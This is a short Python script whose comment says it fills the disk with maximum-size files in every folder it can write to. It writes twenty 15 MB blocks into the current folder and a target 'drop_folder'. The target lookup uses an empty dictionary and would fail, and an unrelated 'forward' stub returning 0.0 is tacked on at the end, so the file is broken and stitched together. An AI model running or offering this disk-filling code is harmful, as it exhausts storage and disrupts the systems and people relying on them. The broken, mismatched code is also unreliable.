# Fills the disk with files of the largest size that is allowed, in every folder that it may write
# into. 300 MB are enough to see.
TARGET = {}

DATA = b"\xaa" * (15 << 20)
for number in range(20):
    for folder in (".", TARGET["drop_folder"]):
        try:
            with open(f"{folder}/{number}", "wb") as file:
                file.write(DATA)
        except OSError:
            continue


def forward(x, w):
    return 0.0
